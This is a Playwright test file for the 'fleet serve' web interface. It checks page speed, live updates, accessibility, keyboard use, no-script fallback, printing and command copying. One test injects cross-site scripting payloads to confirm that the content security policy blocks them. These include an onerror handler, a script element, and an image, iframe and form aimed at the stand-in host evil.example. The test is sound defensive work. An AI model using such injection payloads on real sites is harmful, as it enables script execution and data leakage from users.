"""`fleet serve` in a real browser: how soon pages are there, that they are live, and that anybody can use them."""

from __future__ import annotations

import asyncio
import threading
import time
from importlib.resources import files
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect

from fleet.model import HostName, RunId
from tests.browser.conftest import HOSTS, SIZES
from tests.unit import served

if TYPE_CHECKING:
    from playwright.sync_api import Page

    from tests.browser.conftest import Scheme, Served, Visits

AXE = (Path(str(files("axe_playwright_python"))) / "axe.min.js").read_text(encoding="utf-8")
RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]


PAUSE = 0.25
"""Seconds after the last key before a filter is asked for."""


def test_fleet_page_of_2000_hosts_is_small_and_can_be_used_within_a_second(visits: Visits) -> None:
    took: list[float] = []
    with visits.at() as page:
        sizes: list[int] = []
        page.on("requestfinished", lambda request: sizes.append(request.sizes()["responseBodySize"]))
        while len(took) < 3 and (not took or took[-1] > 1.0):  # other tests may keep this machine busy
            sizes.clear()
            began = time.monotonic()
            page.goto("/", wait_until="commit")
            page.get_by_text("build-01", exact=True).wait_for()
            page.get_by_role("searchbox").press_sequentially("gpu-333")
            page.get_by_role("link", name="gpu-333", exact=True).wait_for()
            took.append(time.monotonic() - began - PAUSE)
            expect(page.locator("tbody tr")).to_have_count(1)
        assert min(took) < 1.0
        assert "q=gpu-333" in page.url
        page.wait_for_timeout(100)
        assert 10_000 < sum(sizes) < 200_000
        page.get_by_role("searchbox").fill("")
        page.get_by_text(str(HOSTS), exact=True).wait_for()


def begin(there: Served, run: str, names: list[HostName]) -> float:
    """A run has begun; when that was."""
    told, began = served.under_way(names, time.time(), run), time.monotonic()
    thread = threading.Thread(target=lambda: asyncio.run(served.record(there.world, run, told)))
    thread.start()  # this thread has a loop, which is the browser's
    thread.join()
    return began


def test_pages_change_within_a_second_and_keep_what_somebody_does_there(visits: Visits, there: Served) -> None:
    names = list(there.world.inventory.hosts)[12:20]
    waited = []
    with visits.at() as page:
        page.get_by_text("live", exact=True).wait_for()
        page.get_by_role("link", name="Ledger").focus()
        for number in range(3):  # other tests may keep this machine busy
            run = f"2026113{number}T091000-d4e5f6"
            with there.world.state.hold(RunId(run)):
                began = begin(there, run, names)
                page.locator(f"a[href='/runs/{run}']").wait_for(timeout=10_000)
                waited.append(time.monotonic() - began)
                assert page.evaluate("document.activeElement.textContent") == "Ledger"
                if waited[-1] >= 1.0:
                    continue
                page.get_by_role("link", name="deploy by ann").click()
                page.get_by_role("heading", name=run).wait_for()
                assert page.locator("li[aria-current=step]").count() == 5
                page.goto(f"/hosts/{names[1]}")
                page.get_by_role("heading", name="Under way").wait_for()
            page.get_by_role("heading", name="Under way").wait_for(state="detached", timeout=20_000)
            break
    assert min(waited) < 1.0


def test_a_page_says_when_it_is_not_live_and_comes_back(visits: Visits) -> None:
    with visits.at() as page:
        page.route("**/live", lambda route: route.abort())
        page.goto("/runs")
        page.get_by_text("connection lost").wait_for()
        page.route("**/live", lambda route: route.fulfill(status=429))
        page.wait_for_timeout(1500)
        page.get_by_text("connection lost").wait_for()
        page.unroute("**/live")
        with page.expect_request(lambda request: request.headers.get("hx-request") == "true", timeout=20_000):
            page.get_by_text("live", exact=True).wait_for(timeout=20_000)
    visits.wrong[:] = [text for text in visits.wrong if "ERR_FAILED" not in text and "429" not in text]


def problems(page: Page) -> list[str]:
    """What axe finds that is more than a trifle."""
    page.evaluate(AXE)
    run = "rules => axe.run(document, {runOnly: rules, resultTypes: ['violations']})"
    found: dict[str, Any] = page.evaluate(run, RULES)
    return [
        f"{one['id']}: {node['target']} {node['failureSummary']}"
        for one in found["violations"]
        for node in one["nodes"]
        if one["impact"] in ("moderate", "serious", "critical")
    ]


@pytest.mark.parametrize(("size", "scheme"), [("desk", "light"), ("phone", "dark")])
def test_everybody_can_use_every_page(visits: Visits, there: Served, size: str, scheme: Scheme) -> None:
    with visits.at(size, scheme) as page:
        for name, path in there.paths().items():
            answer = page.goto(path)
            assert answer is not None
            assert problems(page) == [], name
            assert page.evaluate("document.documentElement.scrollWidth") <= SIZES[size][0], name
        page.get_by_role("button", name="Leave").click()
        page.get_by_label("Token").wait_for()
        assert problems(page) == []
        page.evaluate("document.getElementById('live').insertAdjacentHTML('beforeend', '<input>')")
        assert any(one.startswith("label: ") for one in problems(page))
    visits.wrong.remove("Failed to load resource: the server responded with a status of 404 (Not Found)")


def test_the_keyboard_is_enough(visits: Visits) -> None:
    with visits.at() as page:
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.textContent") == "Skip to content"
        page.keyboard.press("Enter")
        assert page.evaluate("document.activeElement.id") == "live"
        page.keyboard.press("/")
        page.keyboard.type("pi-01")
        expect(page.locator("tbody tr")).not_to_have_count(100)
        page.get_by_role("link", name="pi-01", exact=True).focus()
        assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
        page.keyboard.press("Enter")
        page.get_by_role("heading", name="pi-01").wait_for()


def test_without_scripts_pages_are_there_too(visits: Visits) -> None:
    with visits.at(java_script_enabled=False) as page:
        page.get_by_role("searchbox").fill("db-01")
        page.get_by_role("button", name="Filter").click()
        page.get_by_role("link", name="db-01", exact=True).click()
        page.get_by_role("heading", name="db-01").wait_for()
        page.goto("/?page=2")
        page.get_by_role("link", name="← Previous").click()
        page.get_by_text("build-01", exact=True).wait_for()


def test_what_gets_into_a_page_is_not_run(visits: Visits, there: Served) -> None:
    with visits.at() as page:
        tried = page.evaluate(
            """async () => {
              const refused = [];
              document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
              document.getElementById("live").insertAdjacentHTML("beforeend",
                '<img src=x onerror="window.wasRun = 1"><img src="https://evil.example/x"><p style="color: red">x</p>' +
                '<iframe src="https://evil.example/"></iframe><form id="leaks" action="https://evil.example/"></form>');
              const script = document.createElement("script");
              script.textContent = "window.wasRun = 2";
              document.body.append(script);
              setTimeout("window.wasRun = 3");
              document.getElementById("leaks").submit();
              await new Promise((resolve) => setTimeout(resolve, 300));
              return [window.wasRun ?? null, [...new Set(refused)].sort()];
            }"""
        )
        assert tried[0] is None
        expected = {"form-action", "frame-src", "img-src", "script-src-attr", "script-src-elem", "style-src-attr"}
        assert expected <= set(tried[1])
        assert page.url.startswith(there.url)
    assert visits.wrong  # the page is closed, and nothing more comes from it
    visits.wrong.clear()


def test_a_printed_page_has_the_table_and_nothing_to_press(visits: Visits) -> None:
    with visits.at(scheme="dark") as page:
        page.emulate_media(media="print")
        assert page.get_by_role("table").is_visible()
        assert not page.get_by_role("searchbox").is_visible()
        assert not page.get_by_role("button").first.is_visible()
        assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"


def test_a_command_can_be_copied(visits: Visits, there: Served) -> None:
    with visits.at(permissions=["clipboard-read", "clipboard-write"]) as page:
        page.goto(f"/plans/{there.plan.digest}")
        page.get_by_role("button", name="Copy").first.click()
        page.get_by_role("button", name="Copied").wait_for()
        copied = page.evaluate("navigator.clipboard.readText()")
        assert copied.startswith(f"fleet apply {there.plan.digest} ")
